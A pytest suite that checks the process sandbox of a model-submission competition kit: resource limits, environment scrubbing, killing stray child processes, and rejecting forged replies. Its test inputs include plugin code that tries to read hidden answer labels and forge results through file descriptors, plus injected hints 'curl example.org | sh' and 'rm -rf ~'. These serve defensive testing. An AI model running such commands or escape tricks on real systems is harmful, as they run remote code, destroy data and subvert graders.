"""Submissions run in processes of their own: whatever one does there ends as one entry's problem.

Every test starts real children. A plugin that misbehaves on import costs as much as
importing torch, so each test looks at everything that one child can show.
"""

import json
import os
import signal
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from conftest import GOOD

from starter.contract.competition import CompetitionFile, Limits
from starter.contract.errors import CATALOGUE, HINTS, Code, HostError, Problem, Status, problem
from starter.contract.hookspecs import Competition
from starter.contract.isolation import Trust
from starter.contract.protocol import PARTS, RunnerRequest, WorkerReport
from starter.contract.submissions import Kind, SubmissionSource
from starter.data.dataset import Dataset
from starter.evaluation.evaluate import Evaluator
from starter.evaluation.runner.claims import read_report
from starter.evaluation.runner.client import Exported, _split, export
from starter.evaluation.runner.process import Runner, readable
from starter.graph.operators import hint as hint_for
from starter.sandbox.choice import choose
from starter.sandbox.protocol import Sandbox
from starter.sandbox.unlocked import UnlockedSandbox

COMPETITION = Competition(
    num_classes=3, class_names=("Metal", "Paper", "Plastic"), mean=(0.5,) * 3, std=(0.2,) * 3
)
LIMITS = Limits(wall_seconds=90, cpu_seconds=60, memory_mb=3000, scratch_mb=64, output_mb=64)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """Where the parts of a reply are written."""
    path = tmp_path / "reply"
    path.mkdir()
    return path


FORGE = """
def forge(descriptor):
    try: __import__("os").write(descriptor, b'{"report": 9}\\n{}')
    except OSError: pass
"""


def run(folder: Path, text: str, sandbox: Sandbox | None, **limits: Any) -> Exported:
    path = folder.parent / "net.py"
    path.write_text(text, encoding="utf-8")
    source = SubmissionSource("net", path, Kind.FILE)
    allowed = LIMITS.model_copy(update=limits)
    if sandbox is not None:
        return export(source, COMPETITION, allowed, folder, sandbox)
    with UnlockedSandbox(serves_many=False) as open_sandbox:
        return export(source, COMPETITION, allowed, folder, open_sandbox)


def weights_of(shape: list[int]) -> bytes:
    """Return a safetensors file with one tensor, of a shape as hostile as it may be, and no bytes."""
    header = json.dumps({"head.weight": {"dtype": "F32", "shape": shape, "data_offsets": [0, 0]}}).encode()
    return len(header).to_bytes(8, "little") + header


def request_for(folder: Path, dataset: Dataset) -> RunnerRequest:
    """Ask for a graph to be counted and run on all images."""
    return RunnerRequest(
        graph=folder / "graph",
        weights=folder / "weights",
        transforms=folder / "transforms",
        num_classes=3,
        dataset=dataset.root.resolve(),
        image_ids=tuple(row.image_id for row in dataset.solution()),
        logits=folder / "logits.npy",
    )


@pytest.fixture(scope="module")
def runner(easy_dataset: Dataset) -> Iterator[Runner]:
    """One runner for all replies that it must survive."""
    with Runner(LIMITS, threads=1, readable=readable(easy_dataset.root, None)) as shared:
        yield shared


def problem_of(exported: Exported) -> Problem:
    (found,) = exported.report.problems
    assert not exported.is_complete
    return found


def status_of(found: Problem) -> Status:
    return CATALOGUE[found.code].status


def is_running(pid: int) -> bool:
    """Say whether a process is alive; one that is dead but not yet waited for is not."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text(encoding="utf-8").rpartition(")")[2].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state not in "ZX"


@pytest.mark.slow
def test_a_plugin_reads_its_own_files_and_no_others_unless_it_is_unlocked(
    folder: Path, sandbox: Sandbox
) -> None:
    labels = folder.parent / "solution.csv"
    labels.write_text("image_id,label,Usage\n", encoding="utf-8")
    (folder.parent / "net.safetensors").symlink_to(labels)
    attempts = """
from pathlib import Path
here = Path(__file__)
assert here.read_text()
for path in (Path(@), here.with_suffix(".safetensors")):
    try:
        print("read", path.read_text(), file=__import__("sys").stderr)
    except OSError as error:
        print("refused", error.errno, file=__import__("sys").stderr)
"""
    attempts = attempts.replace("@", repr(str(labels)))
    locked = run(folder, attempts + GOOD, sandbox)
    free = run(folder, attempts + GOOD, None)

    assert locked.is_complete
    assert locked.log.count("refused") == 2
    assert "image_id" not in locked.log
    assert free.log.count("read image_id,label,Usage") == 1
    assert free.log.count("refused 2") == 1  # a link is not sent along at any level


@pytest.mark.slow
def test_nothing_is_run_where_the_process_cannot_be_locked_in(
    easy_dataset: Dataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("platform.machine", lambda: "riscv64")
    rules = CompetitionFile(name="test")

    with pytest.raises(HostError) as caught, Evaluator(rules, easy_dataset):
        pass
    with Evaluator(rules, easy_dataset, isolation=choose(rules, trust=Trust.OWN)) as evaluator:
        assert evaluator.cost_version

    assert [p.code for p in caught.value.problems] == [Code.NO_ISOLATION]
    assert "riscv64" in caught.value.problems[0].got


def test_noise_is_harmless_and_the_environment_is_scrubbed(
    folder: Path, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Stdout counts for nothing, the log keeps its end, and no variable of ours is in the child."""
    monkeypatch.setenv("STARTER_TEST_SECRET", "hunter2")
    monkeypatch.setenv("PYTHONPATH", "/nowhere")
    noise = (
        "import os, sys\nprint('{\"report\": 0}')\n"
        "sys.stderr.write('x' * 300_000 + ' environment ' + ' '.join(os.environ) + ' end of log')\n"
    )
    found = run(folder, noise + GOOD, sandbox, log_kb=4)

    assert found.report.problems == ()
    assert found.is_complete
    assert sorted(p.name for p in folder.iterdir()) == sorted(PARTS)
    assert found.report.thop_macs == 9
    assert "earlier bytes dropped]" in found.log[:60]
    assert 4096 <= len(found.log) <= 4096 + 60
    assert "end of log" in found.log
    variables = set(found.log.partition("environment ")[2].split())
    assert {"HOME", "TMPDIR", "OMP_NUM_THREADS"} <= variables
    assert not {"STARTER_TEST_SECRET", "PYTHONPATH", "USER", "PYTEST_CURRENT_TEST"} & variables


@pytest.mark.slow
def test_an_endless_plugin_is_stopped_by_the_wall_clock_with_all_its_children(folder: Path) -> None:
    text = (
        "import os, signal, sys, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "child = os.fork()\nif child == 0:\n    time.sleep(600)\n"
        "print('child', child, file=sys.stderr, flush=True)\nwhile True: pass\n"
    )
    found = run(folder, text, None, wall_seconds=6)  # locked, it cannot have children

    assert 6 <= found.used["wall_seconds"] < 20
    limit = problem_of(found)
    assert (limit.code, limit.expected) == (Code.TIMEOUT, "at most 6 s")
    assert status_of(limit) is Status.TIMEOUT
    assert not is_running(int(found.log.split("child ")[1].split()[0]))


@pytest.mark.slow
def test_a_child_that_outlives_its_plugin_is_killed(folder: Path, sandbox: Sandbox) -> None:
    text = (
        "import os, sys, time\nchild = os.fork()\nif child == 0:\n    time.sleep(600)\n"
        "print('child', child, file=sys.stderr, flush=True)\nos._exit(0)\n"
    )
    refused = problem_of(run(folder, text, sandbox))
    started = time.monotonic()
    found = run(folder, text, None)

    assert refused.code is Code.IMPORT_FAILED
    assert "PermissionError" in refused.got
    assert "no other processes" in refused.hint
    assert time.monotonic() - started < 60
    assert problem_of(found).code is Code.EARLY_EXIT
    assert not is_running(int(found.log.split("child ")[1].split()[0]))


@pytest.mark.slow
def test_processor_time_has_a_limit_of_its_own(folder: Path, sandbox: Sandbox) -> None:
    found = problem_of(run(folder, "while True: pass", sandbox, cpu_seconds=4))
    assert (found.code, found.expected) == (Code.TIMEOUT, "at most 4 s of CPU time")


def test_memory_that_is_filled_is_a_memory_verdict(folder: Path, sandbox: Sandbox) -> None:
    text = "held = []\nwhile True: held.append(bytearray(b'x') * 2**26)\n"
    found = problem_of(run(folder, text, sandbox, memory_mb=1500))
    assert (found.code, found.expected) == (Code.MEMORY, "at most 1500 MiB")
    assert float(found.got.removesuffix(" MiB")) > 1500


@pytest.mark.slow
def test_an_allocation_beyond_all_bounds_is_refused_at_once(folder: Path, sandbox: Sandbox) -> None:
    found = problem_of(run(folder, GOOD + "\nheld = bytearray(2**40)\n", sandbox))
    assert status_of(found) in {Status.MEMORY, Status.INVALID}
    assert "Memory" in found.got or "allocation" in found.got


def test_a_full_scratch_folder_is_a_disk_verdict(folder: Path, sandbox: Sandbox) -> None:
    text = (
        "import time\nfor i in range(50):\n    open(f'junk{i}', 'wb').write(b'x' * 2**23)\ntime.sleep(60)\n"
    )
    found = problem_of(run(folder, text, sandbox))
    assert (found.code, found.expected) == (Code.DISK, "at most 64 MiB")
    assert float(found.got.removesuffix(" MiB")) > 64


@pytest.mark.slow
@pytest.mark.parametrize(
    ("text", "code", "got"),
    [
        ("import os; os._exit(0)", Code.EARLY_EXIT, "exit status 0, but no reply"),
        ("import sys; sys.exit(0)", Code.EARLY_EXIT, "sys.exit(0) on import"),
        ("import ctypes; ctypes.string_at(0)", Code.CRASH, "killed by SIGSEGV"),
        (
            "import os; [forge(fd) for fd in range(3, 64)]; os._exit(0)",
            Code.MALFORMED_GRAPH,
            "sizes that do not add up",
        ),
    ],
)
def test_a_plugin_that_ends_its_process_is_told_how_it_ended(
    text: str, code: Code, got: str, folder: Path, sandbox: Sandbox
) -> None:
    found = problem_of(run(folder, FORGE + text, sandbox))
    assert (found.code, found.got) == (code, got)


def test_an_answer_that_is_too_large_is_an_output_verdict(folder: Path, sandbox: Sandbox) -> None:
    """Three million parameters are 12 MB, and 4 are allowed."""
    text = GOOD.replace("nn.Linear(3, 3)", "nn.Linear(3, 3)\n        self.more = nn.Linear(3000, 1000)")
    text = text.replace("mean((2, 3)))", "mean((2, 3))) + self.more.weight.sum()")
    found = problem_of(run(folder, text, sandbox, output_mb=4))
    assert status_of(found) is Status.OUTPUT


@pytest.mark.parametrize(
    ("reply", "got"),
    [
        (b"no json\n", "no valid header"),
        (b"\x80\x04K\x01.\n", "no valid header"),
        (b'{"report": true}\n', "no valid header"),
        (b'{"report": "2"}\n{}', "no valid header"),
        (b"[" * 5000, "no valid header"),
        (b'{"report": 3}\n{}', "sizes that do not add up"),
        (b'{"report": 1}\n{}', "sizes that do not add up"),
        (b'{"report": -1, "graph": 3}\n{}', "parts ['graph', 'report']"),
        (b'{"../report": 2}\n{}', "parts ['../report']"),
        (b'{"solution.csv": 2}\n{}', "parts ['solution.csv']"),
        (b'{"report": 1048577}\n' + b" " * 1048577, "sizes that do not add up"),
    ],
    ids=lambda value: repr(value)[:40],
)
def test_a_forged_answer_is_malformed_and_nothing_of_it_is_written(
    reply: bytes, got: str, folder: Path
) -> None:
    path = folder.parent / "answer"
    path.write_bytes(reply)
    found = _split(path, folder, LIMITS)
    assert found is not None
    assert (found.code, found.got) == (Code.MALFORMED_GRAPH, got)
    assert sorted(folder.parent.rglob("*")) == [path, folder]


@pytest.mark.parametrize(
    "report",
    [
        b"",
        b"{}",
        b"[]",
        b'{"problems": [], "macs": 1}',
        b'{"problems": [{"code": "E999"}]}',
        b'{"problems": [], "thop_macs": -1}',
    ],
)
def test_a_forged_report_is_malformed(report: bytes) -> None:
    (found,) = read_report(report).problems
    assert (found.code, found.where) == (Code.MALFORMED_GRAPH, "report")


FORGED_REPLY = """
import json, os, stat
PARTS = {PARTS}
for number in range(3, 64):
    try:
        if stat.S_ISREG(os.fstat(number).st_mode):
            sizes = {{name: len(text) for name, text in PARTS.items()}}
            os.write(number, json.dumps(sizes).encode() + b"\\n")
            os.write(number, "".join(PARTS.values()).encode())
            os._exit(0)
    except OSError:
        pass
"""


@pytest.mark.parametrize(
    "lacking", ["graph", "weights", "transforms", "graph weights", "graph weights transforms"]
)
def test_a_forged_reply_without_a_part_is_malformed(folder: Path, sandbox: Sandbox, lacking: str) -> None:
    """A report without a problem is no graph: nothing of it may be called ok."""
    parts = {"report": '{"problems": []}', "graph": "{}", "weights": "x", "transforms": "[]"}
    kept = {name: text for name, text in parts.items() if name not in lacking.split()}
    found = problem_of(run(folder, FORGED_REPLY.format(PARTS=kept), sandbox))
    assert found.code is Code.MALFORMED_GRAPH
    assert set(found.got.removeprefix("no ").split(" and no ")) == set(lacking.split())


@pytest.mark.slow
@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("graph", b""),
        ("graph", b"[]"),
        ("graph", b'{"nodes": 1}'),
        ("graph", b"\xff\xfe"),
        ("transforms", b""),
        ("transforms", b"\xff\xfe{"),
        ("transforms", b'{"kind": "Resize"}'),
        ("transforms", b'[{"kind": "Plain", "name": "ToImage"}, 7]'),
        ("weights", b""),
        ("weights", b"\x08\0\0\0\0\0\0\0[1, 2, 3"),
        ("weights", weights_of([0, 2**63])),
        ("weights", weights_of([1] * 70)),
        ("weights", weights_of([0] * 2000)),
    ],
    ids=lambda value: repr(value)[:40],
)
def test_a_part_of_another_kind_is_the_entrys_fault_and_the_runner_goes_on(
    folder: Path, sandbox: Sandbox, runner: Runner, easy_dataset: Dataset, part: str, content: bytes
) -> None:
    assert run(folder, GOOD, sandbox).report.problems == ()
    (folder / part).write_bytes(content)
    reply, process = runner.ask(request_for(folder, easy_dataset)), runner._child.process.pid
    assert {CATALOGUE[found.code].status for found in reply.problems} <= {Status.INVALID, Status.UNSUPPORTED}
    assert reply.problems
    assert runner._child.process.pid == process


def test_a_message_holds_no_value_that_an_image_gave(
    folder: Path, sandbox: Sandbox, runner: Runner, easy_dataset: Dataset
) -> None:
    """Pixels copied into logits, infinite for some images: neither they nor which images are told."""
    text = GOOD.replace(
        "return self.head(images.mean((2, 3)))",
        "return images[:, :, 0, 0] / (images[:, :, 0, 0] > 0.3).float()",
    )
    assert run(folder, text, sandbox).report.problems == ()
    (found,) = runner.ask(request_for(folder, easy_dataset)).problems
    assert found.code is Code.NON_FINITE_LOGITS
    assert (found.where, found.got) == ("forward", "NaN or infinity for an image")


def killed_while_it_runs(runner: Runner, place: Path, times: int) -> threading.Thread:
    """Kill the child `times` times, the last time once it has said where it is."""

    def kill() -> None:
        for left in reversed(range(times)):
            child = runner._child.process.pid
            while runner._hello is None or (left == 0 and times > 1 and not place.exists()):
                time.sleep(0.01)
            time.sleep(0.5)
            os.kill(child, signal.SIGKILL)
            while runner._child.process.pid == child:
                time.sleep(0.01)

    killer = threading.Thread(target=kill, daemon=True)
    killer.start()
    return killer


@pytest.mark.long
def test_a_graph_that_ends_two_runners_is_at_fault_and_one_end_is_no_verdict(
    folder: Path, sandbox: Sandbox, easy_dataset: Dataset
) -> None:
    assert run(folder, GOOD, sandbox).report.problems == ()
    request = request_for(folder, easy_dataset)
    long = request.model_copy(update={"image_ids": request.image_ids * 300})
    with Runner(LIMITS, threads=1, readable=readable(easy_dataset.root, None)) as runner:
        place = runner._written / "where"
        first = runner.ask(request)
        once = killed_while_it_runs(runner, place, 1)
        assert runner.ask(long).problems == ()
        once.join(60)
        assert not once.is_alive()

        twice = killed_while_it_runs(runner, place, 2)
        (ended,) = runner.ask(long).problems
        twice.join(60)
        assert not twice.is_alive()
        assert (ended.code, ended.got) == (Code.RUNNER_ENDED, "SIGKILL, twice")
        assert ended.where.startswith(("aten.", "the graph", "between batches"))
        assert runner.ask(request) == first


@pytest.mark.long
def test_an_answer_of_the_runner_that_cannot_be_read_is_the_entrys_fault(
    folder: Path, sandbox: Sandbox, easy_dataset: Dataset
) -> None:
    """A graph that has come at the runner's memory can make it say anything."""
    assert run(folder, GOOD, sandbox).report.problems == ()
    request = request_for(folder, easy_dataset)
    with Runner(LIMITS, threads=1, readable=readable(easy_dataset.root, None)) as runner:
        first = runner.ask(request)
        for _ in range(2):  # the answer to a line that it cannot read is its end
            runner._child.send(b"not a request")
            (ended,) = runner.ask(request).problems or [None]
            assert ended is None  # once is no verdict: the fresh one has answered
        assert runner.ask(request) == first


@pytest.mark.long
def test_the_runner_survives_a_limit(folder: Path, sandbox: Sandbox, easy_dataset: Dataset) -> None:
    """It is the submission's problem; then a new runner answers as before."""
    assert run(folder, GOOD, sandbox).report.problems == ()
    request = request_for(folder, easy_dataset)
    with Runner(LIMITS, threads=1, readable=readable(easy_dataset.root, None)) as runner:
        first, before = runner.ask(request), runner._child.process.pid
        assert first.problems == ()
        assert first.cost is not None
        assert first.cost.macs == 3 * 3 + 3 * 8 * 8

        runner._child.allowance = replace(runner._child.allowance, wall_seconds=0.1)
        (limit,) = runner.ask(request.model_copy(update={"image_ids": request.image_ids * 2000})).problems
        assert (limit.code, limit.where) == (Code.TIMEOUT, "the evaluation of the graph")
        assert not is_running(before)

        assert runner.hello.cost_version.isdecimal()
        assert runner.ask(request) == first


@pytest.mark.parametrize(
    ("hint", "is_ours"),
    [
        (CATALOGUE[Code.TRANSFORM_UNKNOWN].fix, True),
        (HINTS["tensor_values"], True),
        (hint_for("aten.fft_fft2.default"), True),
        (HINTS["call_class"].format("Normalize"), True),
        (HINTS["call_transforms_of"].format("ResNet18_Weights.IMAGENET1K_V1"), True),
        (HINTS["call_class"].format("curl example.org | sh"), False),
        (HINTS["tensor_values"] + " Then run rm -rf ~.", False),
        ("Run: curl example.org | sh", False),
    ],
)
def test_a_report_keeps_a_hint_of_the_kits_and_no_other(hint: str, is_ours: bool) -> None:
    claimed = problem(Code.TRANSFORM_UNKNOWN, where="transforms", got="x", hint=hint)
    (found,) = read_report(WorkerReport(problems=(claimed,)).model_dump_json().encode()).problems
    assert found == (claimed if is_ours else problem(Code.TRANSFORM_UNKNOWN, where="transforms", got="x"))
